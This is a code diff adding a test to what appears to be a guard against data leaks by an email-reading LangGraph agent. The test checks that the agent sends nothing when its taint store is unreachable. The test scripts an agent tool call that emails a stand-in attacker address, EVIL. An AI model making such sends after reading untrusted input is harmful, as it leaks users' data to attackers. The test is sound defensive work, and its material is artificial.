@@ -174,3 +174,27 @@ def test_the_threads_entry_is_neither_embedded_nor_left_to_expire() -> None:
     assert indexed.ttls  # the node wrote the thread's taint
     assert not any("read_inbox" in text for text in indexed.embedded)
     assert all(ttl is None for ttl in indexed.ttls)
+
+
+def test_a_store_that_cannot_be_read_sends_nothing() -> None:
+    # The thread's taint cannot be known: the step fails (closed), it does
+    # not go on as if the thread were clean.
+    from langgraph.store.memory import InMemoryStore
+
+    class Down(InMemoryStore):
+        def batch(self, ops: Any) -> Any:
+            raise ConnectionError("store down")
+
+    outbox = Outbox()
+    g = guard()
+    graph = build_graph(
+        [
+            turn(call("send_email", {"to": EVIL, "body": "b"}, "e1")),
+            AIMessage("done"),
+        ],
+        guard_tool_node(g, _tools(g, outbox)),
+        store=Down(),
+    )
+    with acting_as(ALICE), agent_run(), pytest.raises(ConnectionError):
+        graph.invoke({"messages": [HumanMessage("send")]}, cfg("down"))
+    assert outbox.sent == []
